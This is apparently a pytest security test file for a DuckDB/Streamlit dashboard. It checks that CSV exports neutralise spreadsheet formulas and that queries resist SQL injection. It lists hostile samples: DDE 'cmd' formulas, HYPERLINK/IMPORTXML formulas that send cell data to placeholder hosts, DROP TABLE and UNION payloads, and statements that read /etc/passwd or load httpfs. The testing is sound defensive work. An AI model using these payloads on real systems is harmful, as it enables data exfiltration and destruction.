"""Hostile values end to end: spreadsheet formula payloads (the OWASP CSV-injection list) loaded as
unit, instansi and file names, then out through every CSV export (zi.present.exports and the download of
every table on every page); SQL-injection strings through every parameter of every zi.query.queries
function and every URL-bound filter; and the dashboard's connection refusing file reads, ATTACH of
files, INSTALL/LOAD, SET, writes and pandas replacement scans.

Exports: 0 text cells start with a trigger (= + - @ tab CR), negative numbers are still numbers.
Queries: a hostile string is only ever a value: results equal a plain pandas filter, or those of a
harmless value that matches nothing, and the warehouse is unchanged.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from conftest import ROOT, run_cli, sha256_of
from streamlit.testing.v1 import AppTest

import zi.present.ui
from zi.present.exports import FORMULA_TRIGGERS, csv_for_excel
from zi.query import queries
from zi.query.db import Warehouse

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+SUM(1)",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=2",
    "==1",
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")',
    '=IMPORTXML(CONCAT("http://x.invalid/?",A1),"//a")',
    "+cmd|' /C notepad'!'A1'",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=10+20+cmd|' /C calc'!A0",
    "-1",
    "+62 812 3456",
]
SQL = [
    "' OR '1'='1",
    "x'; DROP TABLE rekap; --",
    "TPI' --",
    "1; DELETE FROM loads",
    "'; ATTACH '/etc/passwd' AS p; --",
    '" OR ""="',
    "%",
    "_",
    "\\",
    "TPI\x00",
    "' UNION SELECT * FROM loads --",
    "$year",
    "?",
    "semua' OR scope = 'semua",
]
NUMBER = re.compile(r"-?\d+([.,]\d+)*")  # a number as a spreadsheet reads it (not a formula), either decimal mark
PAGES = sorted(str(p) for p in (ROOT / "pages").glob("**/*.py"))


def _csv(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """Kalimantan Tengah units named by formula and SQL payloads, Jawa Barat units scoring lower
    (so the differences Jawa Barat - Kalimantan Tengah are negative), the file loaded under a formula name."""
    folder = tmp_path_factory.mktemp("hostile")
    header = [
        "provinsi",
        "instansi",
        "unit_kerja",
        "tahun",
        "tahap",
        "mp",
        "tt",
        "sdm",
        "ak",
        "pw",
        "pp",
        "ipak",
        "ck",
        "ipkp",
        "catatan",
    ]
    rows = [header]
    for year in (2023, 2024):
        for name in FORMULAS + [s for s in SQL if "\x00" not in s]:  # a NUL makes a file binary: refused
            rows.append(
                ["62", "Pemprov Kalimantan Tengah", name, str(year), "TPI", "5", "4", "7", "7", "10", "7", "14", "3", "13", name]
            )
        for i in range(3):
            rows.append(
                ["32", "Pemprov Jawa Barat", f"Dinas {i}", str(year), "TPI", "3", "2", "5", "5", "8", "5", "12", "2", "11", ""]
            )
        rows.append(
            [
                "62",
                "=Pemprov Kalimantan Tengah",
                "=SUM(A1:A9)",
                str(year),
                "TPI",
                "5",
                "4",
                "7",
                "7",
                "10",
                "7",
                "14",
                "3",
                "13",
                "-",
            ]
        )
    source = _csv(folder / "rekap.csv", rows)
    db = folder / "wh" / "zi.duckdb"
    code, out = run_cli("load", source, "--db", db, f"--name={source}==cmd|' /C calc'!A0.csv", "--by=@SUM(1)")
    assert code == 0, out
    return db


@pytest.fixture(scope="module")
def wh(hostile_db) -> Warehouse:
    warehouse = Warehouse.open(hostile_db)
    yield warehouse
    warehouse.close()


def cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def unsafe_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would read as a formula: start with a trigger and are not plain numbers."""
    return [c for row in cells(data) for c in row if c.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(c)]


# -- exports --------------------------------------------------------------------------------------------
def test_csv_for_excel_neutralises_text_and_keeps_numbers():
    frame = pd.DataFrame(
        {
            "unit": FORMULAS,
            "selisih": [-(i + 0.5) for i in range(len(FORMULAS))],
            "n": range(-3, len(FORMULAS) - 3),
            "=kolom": [True] * len(FORMULAS),
            "campur": [FORMULAS[0], -1.5] + [None] * (len(FORMULAS) - 2),
        }
    )
    rows = cells(csv_for_excel(frame))
    assert unsafe_cells(csv_for_excel(frame)) == []
    assert rows[0] == ["unit", "selisih", "n", "'=kolom", "campur"]
    assert [r[0] for r in rows[1:]] == [("'" + v if v.startswith(FORMULA_TRIGGERS) else v) for v in FORMULAS]
    assert [r[1] for r in rows[1:]] == [f"-{i},5" for i in range(len(FORMULAS))]  # still numbers, decimal comma
    assert [int(r[2]) for r in rows[1:]] == list(range(-3, len(FORMULAS) - 3))


def test_the_payloads_reached_the_warehouse_as_written(hostile_db):
    con = duckdb.connect(str(hostile_db), read_only=True)
    try:
        units = {r[0] for r in con.execute("SELECT DISTINCT unit FROM scores").fetchall()}
        files = {r[0] for r in con.execute("SELECT file_name FROM load_files").fetchall()}
        by = con.execute("SELECT loaded_by FROM loads").fetchall()
    finally:
        con.close()
    assert {"=cmd|' /C calc'!A0", "=1+1", "-2+3", "x'; DROP TABLE rekap; --", "=SUM(A1:A9)"} <= units
    assert files == {"=cmd|' /C calc'!A0.csv"} and by == [("@SUM(1)",)]


# The pages' on-demand sections (zi.present.ui.on_demand): opened, so that every table of a page is shown.
ON_DEMAND = ("bandingkan_selisih", "bandingkan_unit", "profil_subarea", "profil_asal_data", "metodologi_file")


def open_every_section(at: AppTest) -> None:
    for section in ON_DEMAND:
        at.session_state[f"buka_{section}"] = True


@pytest.fixture(scope="module")
def page_downloads(hostile_db):
    """Every page run on the hostile warehouse; every CSV its tables offer, by page."""
    recorded: dict[str, list[bytes]] = {}
    original = zi.present.ui.csv_for_excel
    patch = pytest.MonkeyPatch()
    patch.setenv("ZI_DB", str(hostile_db))
    errors = {}
    try:
        for path in PAGES:
            page = Path(path).stem
            patch.setattr(
                zi.present.ui,
                "csv_for_excel",
                lambda frame, page=page: recorded.setdefault(page, []).append(original(frame)) or recorded[page][-1],
            )
            at = AppTest.from_file(path, default_timeout=120)
            open_every_section(at)
            at.run()
            if at.exception:
                errors[page] = [e.value for e in at.exception]
    finally:
        patch.undo()
    return recorded, errors


def test_every_page_csv_download_is_safe_and_keeps_negative_numbers(page_downloads):
    recorded, errors = page_downloads
    assert errors == {}
    assert sum(len(v) for v in recorded.values()) >= 10
    unsafe = {page: unsafe_cells(data) for page, files in recorded.items() for data in files if unsafe_cells(data)}
    assert unsafe == {}
    text = "\n".join(data.decode("utf-8") for files in recorded.values() for data in files)
    assert "'=cmd|' /C calc'!A0" in text  # the payload is there, as text
    negatives = [
        c
        for files in recorded.values()
        for data in files
        for row in cells(data)
        for c in row
        if NUMBER.fullmatch(c) and c.startswith("-")
    ]
    assert negatives  # e.g. the difference table on Bandingkan: Jawa Barat below Kalimantan Tengah


# -- SQL injection through every query parameter -------------------------------------------------------
VALUES = {  # a valid value per parameter name, and whether a hostile string may stand in for it
    "year": (2024, False),
    "year_from": (2023, False),
    "year_to": (2024, False),
    "stage": ("TPI", True),
    "scope": ("semua", True),
    "predicate": ("WBK", True),
    "area": ("MP", True),
    "rubric": ("permen90-2021", True),
    "provinces": ([62, 32], False),
    "exclude_provinces": ([32], False),
    "load_id": (1, False),
    "unit_id": (None, True),
    "peer_id": (None, True),
    "learner_unit": (None, True),
    "unit_label": ("unit", True),
    "peer_label": ("pembanding", True),
    "count": (3, False),
    "learner_jenis": ("Dinas", True),
    "province": (62, False),
    "instansi": ("Pemprov Kalimantan Tengah", True),
    "instansi_key": ("pemprov kalimantan tengah", True),
    "stable_id": ("UNIT-62-001", True),
}
NO_MATCH = "tidak-ada-nilai-ini"


def twin(param: str, payload: str) -> str:
    """A harmless value that must give the same result as `payload` if the payload is only a value:
    one that matches nothing, or for the learner's name (compared word by word, for similarity) the
    same words without the SQL punctuation."""
    return re.sub("[^A-Za-z ]", " ", payload) if param == "learner_unit" else NO_MATCH


def query_functions() -> list:
    found = []
    for name, function in vars(queries).items():  # plain functions and st.cache_data-wrapped ones
        if not callable(function) or getattr(function, "__module__", None) != queries.__name__ or name.startswith("_"):
            continue
        parameters = list(inspect.signature(function).parameters)
        if parameters and parameters[0] == "wh":
            found.append((name, function, parameters[1:]))
    return found


def test_every_query_parameter_is_known_here():
    unknown = {name: [p for p in params if p not in VALUES] for name, _, params in query_functions()}
    assert {k: v for k, v in unknown.items() if v} == {}, "give the new parameter a value in VALUES"


def _same(a, b) -> bool:
    if isinstance(a, pd.DataFrame):
        return isinstance(b, pd.DataFrame) and a.equals(b)
    return str(a) == str(b)


@pytest.mark.parametrize("payload", SQL + FORMULAS[:4])
def test_a_hostile_string_is_only_ever_a_value(wh, hostile_db, payload):
    before = sha256_of(hostile_db)
    unit = wh.query("units_list", provinces=[62])["unit_id"].iat[0]
    checked = 0
    for name, function, params in query_functions():
        base = {p: (VALUES[p][0] if VALUES[p][0] is not None else unit) for p in params if p in VALUES}
        for param in params:
            if not VALUES.get(param, (None, False))[1]:
                continue
            hostile = function(wh, **{**base, param: payload})
            harmless = function(wh, **{**base, param: twin(param, payload)})
            hostile = hostile.reset_index(drop=True) if isinstance(hostile, pd.DataFrame) else hostile
            harmless = harmless.reset_index(drop=True) if isinstance(harmless, pd.DataFrame) else harmless
            if param in ("unit_label", "peer_label"):  # a label is echoed into the result, never queried
                continue
            assert _same(hostile, harmless), f"{name}({param}={payload!r})"
            checked += 1
    assert checked >= 20
    assert sha256_of(hostile_db) == before


def test_a_unit_named_with_sql_equals_a_pandas_filter(wh, hostile_db):
    con = duckdb.connect(str(hostile_db), read_only=True)
    try:
        scores = con.execute("SELECT * FROM scores").df()
    finally:
        con.close()
    hostile_ids = [u for u in scores["unit_id"].unique() if any(s in u for s in ("'", ";", "--", "%", "\\"))]
    assert len(hostile_ids) >= 6
    for unit_id in hostile_ids:
        expected = scores[scores["unit_id"] == unit_id].sort_values(["year", "stage"])
        got = queries.unit_scores(wh, unit_id)
        assert (
            got[["unit_id", "year", "stage", "total"]].values.tolist()
            == expected[["unit_id", "year", "stage", "total"]].values.tolist()
        )
        assert queries.unit_provenance(wh, unit_id)["year"].tolist() == expected["year"].tolist()


def test_province_lists_accept_only_numbers(wh):
    for bad in (["62 OR 1=1"], ["62); DROP TABLE rekap; --"]):
        with pytest.raises(ValueError):
            queries.units_list(wh, bad)


@pytest.mark.parametrize(
    "path", ["pages/dasbor/ringkasan.py", "pages/dasbor/bandingkan.py", "pages/dasbor/tren.py", "pages/dasbor/profil_unit.py"]
)
def test_hostile_url_filters_fall_back_to_the_defaults(hostile_db, monkeypatch, path):
    monkeypatch.setenv("ZI_DB", str(hostile_db))
    plain = AppTest.from_file(str(ROOT / path), default_timeout=120)
    hostile = AppTest.from_file(str(ROOT / path), default_timeout=120)
    for key in ("provinsi", "provinsi_unit", "tahun", "tahap", "cakupan", "unit", "tahun_unit"):
        hostile.query_params[key] = SQL[1]
    for at in (plain, hostile):
        open_every_section(at)
        at.run()
    assert not plain.exception and not hostile.exception and len(plain.dataframe) > 0
    assert [d.value.to_dict() for d in hostile.dataframe] == [d.value.to_dict() for d in plain.dataframe]


# -- the connection refuses everything but reading the warehouse ----------------------------------------
@pytest.mark.parametrize(
    "statement",
    [
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_text('/etc/hostname')",
        "SELECT * FROM glob('/etc/*')",
        "SELECT * FROM '/etc/passwd'",
        "ATTACH '/tmp/zi_injeksi.duckdb' AS lain",
        "ATTACH '/etc/passwd' AS p (READ_ONLY)",
        "COPY (SELECT 1) TO '/tmp/zi_injeksi.csv'",
        "EXPORT DATABASE '/tmp/zi_injeksi_ekspor'",
        "INSTALL httpfs",
        "LOAD httpfs",
        "SET enable_external_access = true",
        "SET lock_configuration = false",
        "SET threads = 1",
        "RESET enable_external_access",
        "INSERT INTO rekap SELECT * FROM rekap LIMIT 1",
        "DELETE FROM loads",
        "UPDATE loads SET note = 'x'",
        "CREATE TABLE curian AS SELECT 1",
        "DROP VIEW scores",
        "DETACH warehouse",
        "SELECT * FROM secret_frame",
    ],
)
def test_the_dashboard_connection_refuses(wh, hostile_db, statement):
    secret_frame = pd.DataFrame({"rahasia": [1]})  # noqa: F841 - a pandas replacement scan must not find it
    before = sha256_of(hostile_db)
    cursor = wh._con.cursor()
    try:
        with pytest.raises(duckdb.Error):
            cursor.execute(statement).fetchall()
    finally:
        cursor.close()
    assert sha256_of(hostile_db) == before
    assert not Path("/tmp/zi_injeksi.csv").exists() and not Path("/tmp/zi_injeksi.duckdb").exists()
